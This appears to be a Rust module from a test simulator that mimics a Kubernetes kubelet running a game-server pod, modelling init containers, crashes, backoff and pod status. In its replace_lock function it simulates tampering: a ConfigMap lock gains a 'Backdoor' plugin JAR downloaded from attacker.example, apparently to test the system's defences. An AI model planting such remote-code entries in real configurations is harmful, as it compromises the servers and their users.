//! Edge (writes). Simulates the kubelet of the only node: it turns a pod in the API into a running server, and stops
//! it.
//!
//! The init container is the real one, on a volume of its own.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::time::Duration;

use agent::config;
use agent::init;
use agent::init::InitResult;
use agent_api::signature::Key as AgentKey;
use agent_api::{FILES_KEY, File, FileHash, FileSet};
use clap::{CommandFactory, Parser};
use jiff::{SignedDuration, Timestamp};
use k8s_openapi::ByteString;
use serde_json::{Value, json};

use super::cluster::SimCluster;
use super::cluster_handle::ClusterHandle;
use super::fake_agent::AgentState;
use super::fake_node::conditions;
use super::objects::Key;
use super::scenario::SetBehaviour;
use crate::clock::now;
use crate::server::observe::pending::Lack;
use crate::server::render::secret::{AGENT_KEY, RCON_PASSWORD, secret_name};
use validate::image_contract::{ENABLE_RCON, FILES_DIGEST, PREPARE_CONTAINER, SERVER_CONTAINER};

/// The time limit of the real init container for a world of a few files.
const INIT_TIMEOUT: Duration = Duration::from_secs(30);
/// The file with the termination message.
const TERMINATION_LOG: &str = "last-words";
/// The longest pause of the kubelet between two starts of a container.
const MAX_BACKOFF: SignedDuration = SignedDuration::from_mins(5);

/// The phase of a pod.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Phase {
    /// The cluster does not run it: it has no node, no volume or no image.
    Pending,
    /// Its node is off.
    NodeLost,
    /// Its init container runs, or will be tried again.
    Preparing,
    /// The init container has refused with this message, and will be tried again.
    Refused(String),
    /// The server's process starts.
    Booting,
    Up,
    /// The server's process has exited with an error and will be restarted in the same pod.
    Exited,
    Stopping,
}

/// The pod as the kubelet knows it.
#[derive(Debug)]
pub(super) struct Pod {
    pub(super) uid: String,
    /// The entry of the history that it was created from.
    pub(super) revision: String,
    pub(super) files: FileSet,
    pub(super) behaviour: SetBehaviour,
    pub(super) phase: Phase,
    /// When its phase ends by itself.
    pub(super) due: Option<Timestamp>,
    /// When the kubelet took it.
    pub(super) taken_at: Timestamp,
    /// When its init container was started first.
    prepare_began_at: Timestamp,
    pub(super) prepared_at: Option<Timestamp>,
    /// The message of the init container that let the server start.
    prepare_message: String,
    /// When the server's current or last process was started.
    pub(super) started_at: Timestamp,
    pub(super) up_since: Timestamp,
    pub(super) starts: u32,
    init_attempts: u32,
    last_exit_at: Option<Timestamp>,
    /// The exit code of the last process.
    pub(super) exit_code: i32,
    /// Its node is off, and counts as not ready.
    pub(super) is_node_unready: bool,
    /// Until then each start of its process ends with an error.
    pub(super) crashes_until: Option<Timestamp>,
    /// Until then the server does not answer.
    pub(super) hangs_until: Option<Timestamp>,
    /// Until then it carries out no command.
    pub(super) refuses_until: Option<Timestamp>,
    has_rcon: bool,
    /// Whether its server had a process when it was told to stop.
    has_process: bool,
    pub(super) agent: AgentState,
}

impl Pod {
    pub(super) fn next_event_at(&self) -> Option<Timestamp> {
        let staged_at = self.agent.staging.as_ref().map(|(_, at)| *at);
        self.due.into_iter().chain(staged_at).chain(self.hangs_until).min()
    }

    /// All times that it waits for.
    pub(super) fn timers_mut(&mut self) -> impl Iterator<Item = &mut Timestamp> {
        let staged_at = self.agent.staging.as_mut().map(|(_, at)| at);
        let server_timers = [&mut self.crashes_until, &mut self.hangs_until, &mut self.refuses_until];
        let all = [&mut self.due, &mut self.agent.reachable_from].into_iter().chain(server_timers);
        all.flatten().chain(staged_at)
    }

    /// Whether the server has a process.
    pub(super) fn is_running(&self) -> bool {
        match self.phase {
            Phase::Booting | Phase::Up => true,
            Phase::Stopping => self.has_process,
            Phase::Pending | Phase::NodeLost | Phase::Preparing | Phase::Refused(_) | Phase::Exited => false,
        }
    }

    /// Whether the server was created with RCON.
    pub(super) fn has_rcon(&self) -> bool {
        self.has_rcon
    }

    pub(super) fn is_hanging(&self) -> bool {
        self.hangs_until.is_some_and(|until| now() < until)
    }

    /// Whether its server carries out commands of the console.
    pub(super) fn accepts_commands(&self) -> bool {
        self.phase == Phase::Up
            && self.has_rcon
            && !self.is_hanging()
            && self.refuses_until.is_none_or(|until| until <= now())
    }

    /// Its first container starts soon.
    pub(super) fn prepare_from(&mut self, soon: Timestamp) {
        (self.phase, self.due, self.prepare_began_at) = (Phase::Preparing, Some(soon), now());
    }

    /// Its node was off, and is on again: the pod is prepared again, and its process has ended with an error.
    pub(super) fn prepare_again(&mut self, at: Timestamp) {
        (self.phase, self.due, self.prepared_at, self.init_attempts) = (Phase::Preparing, Some(at), None, 0);
        self.is_node_unready = false;
        if self.starts > 0 {
            self.last_exit_at = Some(now());
        }
    }

    fn backoff(attempts: u32) -> SignedDuration {
        let seconds = 10_i64 << attempts.min(6);
        SignedDuration::from_secs(seconds).min(MAX_BACKOFF)
    }
}

/// The command line of the init container, made from its environment.
#[derive(Debug, Parser)]
struct Line {
    #[command(flatten)]
    init: config::InitConfig,
}

/// Carries out all steps that are due now.
pub(super) async fn run_due_steps(handle: &ClusterHandle) {
    let due = |at: Option<Timestamp>| at.is_some_and(|at| at <= now());
    let mut surviving = None;
    let (init_config, staging) = {
        let mut cluster = handle.cluster();
        if due(cluster.controller_at) {
            cluster.run_controller();
        }
        if cluster.next_players <= now() {
            cluster.simulate_players();
        }
        cluster.request_eviction();
        cluster.end_forced_if_due();
        cluster.stop_pod_if_deleted();
        cluster.end_hang_if_due();
        cluster.pull_images();
        cluster.record_verified();
        cluster.agent_observe();
        let is_due = cluster.pod.as_ref().is_some_and(|pod| due(pod.due));
        let phase = cluster.pod.as_ref().map(|pod| pod.phase.clone()).filter(|_| is_due);
        let forced_ends_at = cluster.forced.as_ref().map(|forced| forced.ends_at);
        let init_config = match phase {
            Some(Phase::Preparing | Phase::Refused(_)) => {
                if let Some(ends_at) = forced_ends_at {
                    surviving = cluster.prepare_while_running(ends_at);
                    None
                } else {
                    Some(cluster.prepare_init_config())
                }
            }
            Some(phase) => {
                cluster.advance_phase(&phase);
                None
            }
            None => None,
        };
        let agent = cluster.pod.as_mut().map(|pod| &mut pod.agent);
        (init_config, agent.and_then(|agent| agent.staging.take_if(|(_, at)| *at <= now())))
    };
    if let Some(surviving) = surviving {
        let is_done = surviving.run().await;
        handle.cluster().check_files_unchanged(&surviving, is_done);
    }
    if let Some(init_config) = init_config {
        let outcome = tokio::time::timeout(INIT_TIMEOUT, init::run(&init_config)).await;
        let mut cluster = handle.cluster();
        cluster.record_offline_backups();
        cluster.finish_init(outcome.ok());
    }
    if let Some((file_set, _)) = staging {
        super::fake_agent::stage(handle, &file_set).await;
    }
}

impl SimCluster {
    /// The kubelet sees a new pod.
    pub(super) fn start_pod(&mut self) {
        let pod = self.objects.get(&self.pod_key()).expect("the pod was just created").clone();
        let files = self.files_of(&pod);
        let key = self.secret(AGENT_KEY);
        let behaviour =
            if self.invariants.fixed_at.is_some() { SetBehaviour::Good } else { self.scenario.behaviour_of(&files) };
        let soon = now() + self.seconds(1, 4);
        let is_placed = pod["spec"].get("nodeName").is_some() && self.scripted.lack != Some(Lack::Volumes);
        let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
        self.pod = Some(Pod {
            uid: text(&pod["metadata"]["uid"]),
            revision: text(&pod["metadata"]["labels"]["controller-revision-hash"]),
            files,
            behaviour,
            phase: if is_placed { Phase::Preparing } else { Phase::Pending },
            due: is_placed.then_some(soon),
            taken_at: now(),
            prepare_began_at: now(),
            prepared_at: None,
            prepare_message: String::new(),
            started_at: now(),
            up_since: now(),
            starts: 0,
            init_attempts: 0,
            last_exit_at: None,
            exit_code: 1,
            is_node_unready: false,
            crashes_until: None,
            hangs_until: None,
            refuses_until: None,
            has_rcon: has_rcon(&pod),
            has_process: true,
            agent: AgentState::new(
                AgentKey::from_hex(&key).expect("the key of the Secret"),
                self.scenario.node_clock_offset,
            ),
        });
        self.write_status();
    }

    /// The files that the pod may start with. If its lock was replaced, they are those of an earlier pod.
    fn files_of(&mut self, pod: &Value) -> FileSet {
        // Without it the pod would never start.
        let map = self.objects.get(&lock_of(pod)).expect("the lock exists when its pod starts");
        let mounted: FileSet =
            serde_json::from_str(map["data"][FILES_KEY].as_str().expect("files")).expect("files of a lock");
        let variables = prepare_of(pod)["env"].as_array().expect("an environment");
        let named = variables.iter().find(|variable| variable["name"] == FILES_DIGEST).expect("a digest");
        let digest = named["value"].as_str().expect("a digest").to_owned();
        if mounted.digest() == digest {
            self.started_sets.insert(digest, mounted.clone());
            return mounted;
        }
        self.started_sets.get(&digest).cloned().expect("a pod with these files has started before")
    }

    /// Somebody who may write `ConfigMap`s replaces the lock of the pod: it names a foreign JAR, and keeps all else.
    pub(super) fn replace_lock(&mut self) {
        let key = lock_of(self.objects.get(&self.pod_key()).expect("the pod exists"));
        let mut map = self.objects.get(&key).expect("the lock exists").clone();
        let mut files: FileSet =
            serde_json::from_str(map["data"][FILES_KEY].as_str().expect("files")).expect("files of a lock");
        files.plugins.push(File {
            path: "plugins/Backdoor-1.0.jar".to_owned(),
            hash: FileHash(format!("sha256:{}", "0".repeat(64))),
            size: None,
            url: "http://attacker.example/Backdoor-1.0.jar".to_owned(),
            plugin: Some("Backdoor".to_owned()),
            provides: Vec::new(),
        });
        map["data"][FILES_KEY] = json!(serde_json::to_string(&files).expect("files"));
        self.objects.remove(&key);
        self.objects.create("configmaps", map, now()).expect("the name is free");
    }

    fn secret(&self, key: &str) -> String {
        let name = secret_name(self.scenario.server_index.name);
        let secret = self.objects.get(&Key::new("secrets", &name)).expect("the Secret exists before the pod");
        let bytes: ByteString = serde_json::from_value(secret["data"][key].clone()).expect("bytes");
        String::from_utf8(bytes.0).expect("valid UTF-8")
    }

    /// The settings of the init container, with its volumes as they are at its start.
    pub(super) fn prepare_init_config(&mut self) -> config::InitConfig {
        let pod = self.objects.get(&self.pod_key()).expect("the pod exists").clone();
        let mounts = self.disks.mounts();
        // The mounts start empty.
        let _ = std::fs::remove_dir_all(&mounts);
        let mut paths: BTreeMap<String, PathBuf> = BTreeMap::new();
        for volume in pod["spec"]["volumes"].as_array().expect("volumes") {
            let name = volume["name"].as_str().expect("a name").to_owned();
            let path = match name.as_str() {
                "data" => self.disks.data(),
                validate::image_contract::BACKUP_VOLUME => self.disks.backups(),
                _ => mounts.join(&name),
            };
            std::fs::create_dir_all(&path).expect("a directory for a volume");
            if let Some(map) = volume["configMap"]["name"].as_str() {
                let map = self.objects.get(&Key::new("configmaps", map)).ok();
                for (file, text) in map.and_then(|map| map["data"].as_object()).into_iter().flatten() {
                    std::fs::write(path.join(file), text.as_str().unwrap_or_default()).expect("a file of a ConfigMap");
                }
            }
            paths.insert(name, path);
        }
        let prepare = prepare_of(&pod);
        let mut arguments = vec!["prepare".to_owned()];
        let flags: Vec<String> = Line::command()
            .get_arguments()
            .filter_map(|argument| Some(format!("--{}", argument.get_long()?)))
            .collect();
        for variable in prepare["env"].as_array().expect("an environment") {
            let name = variable["name"].as_str().expect("a name");
            let flag =
                name.strip_prefix("NIGHTSHIFT_").map(|name| format!("--{}", name.to_lowercase().replace('_', "-")));
            let value = match (variable["value"].as_str(), variable["valueFrom"]["secretKeyRef"]["key"].as_str()) {
                (Some(value), _) => host_path(value, &prepare["volumeMounts"], &paths),
                (None, Some(_)) => self.secret(RCON_PASSWORD),
                (None, None) => continue,
            };
            if let Some(flag) = flag.filter(|flag| flags.contains(flag)) {
                arguments.push(format!("{flag}={value}"));
            }
        }
        let (termination_log, hook) = (mounts.join(TERMINATION_LOG), mounts.join("hook"));
        std::fs::write(&hook, b"").expect("a file");
        arguments.push(format!("--termination-log={}", termination_log.display()));
        arguments.push(format!("--hook={}", hook.display()));
        Line::parse_from(arguments).init
    }

    /// Takes in the result of the init container. `None` if it hangs.
    fn finish_init(&mut self, outcome: Option<InitResult>) {
        let backoff = {
            let Some(pod) = &mut self.pod else { return };
            pod.init_attempts += 1;
            Pod::backoff(pod.init_attempts)
        };
        match outcome {
            Some(InitResult::Ready(_)) => {
                self.check_unseen_stop();
                let message = std::fs::read_to_string(self.disks.mounts().join(TERMINATION_LOG)).unwrap_or_default();
                if !message.is_empty() {
                    self.trace(format!(
                        "init container: starts the server, and says: {}",
                        message.replace('\n', " / ")
                    ));
                }
                let pod = self.pod.as_mut().expect("the pod exists");
                (pod.prepared_at, pod.init_attempts, pod.prepare_message) = (Some(now()), 0, message);
                pod.agent.start(now());
                if self.is_scripted() {
                    self.load_staged();
                }
                if self.scripted.lack == Some(Lack::Image) {
                    let pod = self.pod.as_mut().expect("the pod exists");
                    (pod.phase, pod.due) = (Phase::Pending, None);
                } else {
                    self.boot();
                }
            }
            Some(InitResult::Refused(message) | InitResult::Retry(message)) => {
                // In a pod the volume is mounted there.
                let message = message.replace(&self.disks.data().display().to_string(), "/data");
                let line = message.replace('\n', " / ");
                self.trace(format!("init container: refuses: {line}"));
                let pod = self.pod.as_mut().expect("the pod exists");
                (pod.phase, pod.due) = (Phase::Refused(message), Some(now() + backoff));
            }
            None => {
                self.check(false, "the init container ends");
                self.pod.as_mut().expect("the pod exists").due = Some(now() + backoff);
            }
        }
        self.write_status();
        self.mark_changed();
    }

    /// The kubelet starts the server's process.
    pub(super) fn boot(&mut self) {
        let duration = self.seconds(10, 40);
        {
            let pod = self.pod.as_mut().expect("a pod that was prepared");
            pod.starts += 1;
            (pod.phase, pod.started_at) = (Phase::Booting, now());
        }
        self.open_world();
        // The process may end because of the worlds.
        let pod = self.pod.as_mut().expect("the pod exists");
        let duration =
            if let (SetBehaviour::MigratesFor(migration_duration), true) = (pod.behaviour, self.builds.is_migrating) {
                migration_duration
            } else {
                duration
            };
        pod.due = (pod.behaviour != SetBehaviour::NeverReady).then(|| now() + duration);
    }

    fn advance_phase(&mut self, phase: &Phase) {
        match phase {
            Phase::Booting => self.finish_boot(),
            Phase::Up => self.crash("server: the process dies"),
            Phase::Exited => self.boot(),
            Phase::Stopping => {
                self.record_requested_stop();
                return self.remove_pod();
            }
            Phase::NodeLost => return self.mark_node_not_ready(),
            Phase::Pending | Phase::Preparing | Phase::Refused(_) => {}
        }
        self.write_status();
        self.mark_changed();
    }

    fn finish_boot(&mut self) {
        let behaviour = self.pod.as_ref().map(|pod| pod.behaviour);
        let crashes_again = self.pod.as_ref().and_then(|pod| pod.crashes_until).is_some_and(|until| now() < until);
        self.invariants.crash_looped |= crashes_again;
        if crashes_again || behaviour == Some(SetBehaviour::CrashesAtStart) {
            return self.crash("server: the process ends while it starts");
        }
        let files = self.pod.as_ref().expect("the pod exists").files.clone();
        self.finish_migration(&files);
        let exits_at =
            if behaviour == Some(SetBehaviour::CrashesLater) { Some(now() + self.seconds(2, 50)) } else { None };
        let exits_at = self.scripted.process_lifetime().map(|lifetime| now() + lifetime).or(exits_at);
        let pod = self.pod.as_mut().expect("the pod exists");
        (pod.phase, pod.up_since, pod.due) = (Phase::Up, now(), exits_at);
        self.trace("server: is up and answers pings");
    }

    /// The process ends with an error, and unsaved changes are lost.
    pub(super) fn crash(&mut self, why: &str) {
        if let Some(pod) = &mut self.pod {
            pod.exit_code = 1;
        }
        self.end_process(why);
    }

    /// The process ends with the exit code that is set.
    pub(super) fn end_process(&mut self, why: &str) {
        self.trace(why);
        self.lose_unsaved();
        let pod = self.pod.as_mut().expect("a pod with a process");
        let backoff = if pod.starts == 1 { SignedDuration::from_secs(1) } else { Pod::backoff(pod.starts - 2) };
        (pod.phase, pod.last_exit_at, pod.due, pod.hangs_until) =
            (Phase::Exited, Some(now()), Some(now() + backoff), None);
        // The agent checks every few seconds.
        self.agent_observe();
        self.write_status();
        self.mark_changed();
    }

    /// The kubelet sees that the pod is to end: the hook saves and stops, or the grace period runs out.
    fn stop_pod_if_deleted(&mut self) {
        let object = self.objects.get(&self.pod_key());
        if self.pod.is_some() && object.is_err() {
            // A pod on no node has no process to stop.
            return self.remove_pod();
        }
        let ends = object.ok().and_then(|pod| pod["metadata"]["deletionTimestamp"].as_str());
        let Some(ends) = ends.and_then(|text| text.parse::<Timestamp>().ok()) else { return };
        let stop = self.seconds(2, 8);
        self.request_agent_stop();
        let Some(pod) = self.pod.as_mut().filter(|pod| !matches!(pod.phase, Phase::Stopping | Phase::NodeLost)) else {
            return;
        };
        let was_up = pod.phase == Phase::Up;
        pod.has_process = !matches!(pod.phase, Phase::Exited | Phase::Preparing | Phase::Refused(_) | Phase::Pending);
        let is_hanging = pod.is_hanging();
        (pod.phase, pod.due) = (Phase::Stopping, Some(if is_hanging { ends } else { now() + stop }));
        if was_up && !is_hanging {
            self.save_world();
        }
        self.lose_unsaved();
        self.trace("kubelet: stops the pod: preStop hook, then SIGTERM");
        self.write_status();
    }

    fn end_hang_if_due(&mut self) {
        let Some(pod) = &mut self.pod else { return };
        if pod.hangs_until.take_if(|until| *until <= now()).is_some() {
            self.trace("server: answers again");
            self.write_status();
            self.mark_changed();
        }
    }

    /// The object and the process are deleted, and unsaved changes are lost.
    pub(super) fn remove_pod(&mut self) {
        self.pod = None;
        self.lose_unsaved();
        self.objects.remove(&self.pod_key());
        self.trace("kubelet: the pod is deleted");
        self.mark_changed();
    }

    /// Writes the pod's status as the kubelet does.
    pub(super) fn write_status(&mut self) {
        let Some(pod) = &self.pod else { return };
        if pod.phase == Phase::Pending {
            return self.write_pending_status();
        }
        let at = |at: Timestamp| (at + self.scenario.node_clock_offset).to_string();
        let pending = json!({"waiting": {"reason": "PodInitializing"}});
        let container = |name: &str, state: Value, last: Value, (started, ready): (bool, bool), restarts: u32| {
            json!({
                "name": name, "image": "", "imageID": "", "state": state, "lastState": last,
                "started": started, "ready": ready, "restartCount": restarts,
            })
        };
        let prepare = match (&pod.phase, pod.prepared_at) {
            (_, Some(done)) => {
                let end = json!({"exitCode": 0, "finishedAt": at(done), "message": pod.prepare_message});
                (json!({"terminated": end}), json!({}))
            }
            (Phase::Refused(message), None) => {
                let end = json!({"exitCode": 3, "finishedAt": at(now()), "message": message});
                (json!({"waiting": {"reason": "CrashLoopBackOff"}}), json!({"terminated": end}))
            }
            (_, None) => (json!({"running": {"startedAt": at(pod.prepare_began_at)}}), json!({})),
        };
        let ended = pod.last_exit_at.map(|end| {
            let reason = if pod.exit_code == 0 { "Completed" } else { "Error" };
            json!({"terminated": {"exitCode": pod.exit_code, "reason": reason, "finishedAt": at(end)}})
        });
        let running = json!({"running": {"startedAt": at(pod.started_at)}});
        let is_up = pod.phase == Phase::Up;
        let (state, last) = match pod.phase {
            Phase::Booting | Phase::Up | Phase::NodeLost => (running, ended.unwrap_or_else(|| json!({}))),
            Phase::Exited if pod.starts == 1 => (ended.unwrap_or_default(), json!({})),
            Phase::Exited => (json!({"waiting": {"reason": "CrashLoopBackOff"}}), ended.unwrap_or_default()),
            Phase::Stopping if pod.prepared_at.is_some() => (running, ended.unwrap_or_else(|| json!({}))),
            Phase::Pending | Phase::Preparing | Phase::Refused(_) | Phase::Stopping => (pending, json!({})),
        };
        let ready = is_up && !pod.is_hanging();
        let status = json!({
            "phase": "Running", "podIP": self.scenario.address.to_string(), "startTime": at(pod.taken_at),
            "conditions": conditions(ready),
            "initContainerStatuses": [container(PREPARE_CONTAINER, prepare.0, prepare.1, (false, true), pod.init_attempts)],
            "containerStatuses": [container(SERVER_CONTAINER, state, last, (is_up, ready), pod.starts.saturating_sub(1))],
        });
        self.objects.change(&self.pod_key(), now(), |pod| pod["status"] = status);
    }
}

fn prepare_of(pod: &Value) -> &Value {
    let containers = pod["spec"]["initContainers"].as_array().expect("init containers");
    containers.iter().find(|container| container["name"] == PREPARE_CONTAINER).expect("prepare")
}

/// The `ConfigMap` of the lock that the pod mounts.
fn lock_of(pod: &Value) -> Key {
    let volumes = pod["spec"]["volumes"].as_array().expect("volumes");
    let lock = volumes.iter().find(|volume| volume["name"] == "lock").expect("the lock's volume");
    Key::new("configmaps", lock["configMap"]["name"].as_str().expect("a name"))
}

/// Whether the pod template enables RCON in the server's image.
fn has_rcon(pod: &Value) -> bool {
    let containers = pod["spec"]["containers"].as_array().into_iter().flatten();
    let mut variables = containers.flat_map(|container| container["env"].as_array().into_iter().flatten());
    !variables.any(|variable| variable["name"] == ENABLE_RCON && variable["value"] == "false")
}

/// The path on this machine of a path in the container.
fn host_path(value: &str, mounts: &Value, paths: &BTreeMap<String, PathBuf>) -> String {
    for mount in mounts.as_array().into_iter().flatten() {
        let (mount_path, name) =
            (mount["mountPath"].as_str().unwrap_or_default(), mount["name"].as_str().unwrap_or_default());
        if let Ok(rest) = Path::new(value).strip_prefix(mount_path) {
            let path = paths[name].join(mount["subPath"].as_str().unwrap_or_default()).join(rest);
            return path.display().to_string();
        }
    }
    value.to_owned()
}
